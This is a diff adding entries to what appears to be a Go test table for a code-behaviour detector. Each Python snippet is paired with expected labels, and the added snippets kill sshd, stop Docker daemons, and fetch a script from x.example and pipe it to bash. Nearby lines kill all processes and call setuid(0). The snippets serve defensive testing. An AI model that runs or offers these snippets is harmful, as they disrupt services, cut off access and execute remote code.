@@ -243,6 +243,19 @@ open("/usr/local/bin/tool", "wb").write(r.content)`, []string{"connect http://x.
 for p in psutil.process_iter():
     p.kill()`, []string{"signal KILL *"}},
 	{"python", `import psutil; psutil.Process(1234).terminate()`, []string{"signal TERM 1234"}},
+	{"python", `import psutil
+def kill_processes():
+    for proc in psutil.process_iter(['pid', 'name']):
+        if proc.info['name'] == "sshd":
+            proc.kill()
+kill_processes()`, []string{"signal KILL sshd"}},
+	{"python", `import psutil, os, signal
+for p in psutil.process_iter():
+    if "dockerd" in p.name() or p.name() == "containerd":
+        os.kill(p.pid, signal.SIGTERM)`, []string{"signal TERM dockerd,containerd"}},
+	{"python", `import subprocess, requests
+r = requests.get("http://x.example/s.sh")
+subprocess.run(["bash"], input=r.text)`, []string{"connect http://x.example/s.sh", "download http://x.example/s.sh | bash", "sh: bash"}},
 	{"python", `import os; os.setuid(0)`, []string{"privilege setuid"}},
 
 	// Node.
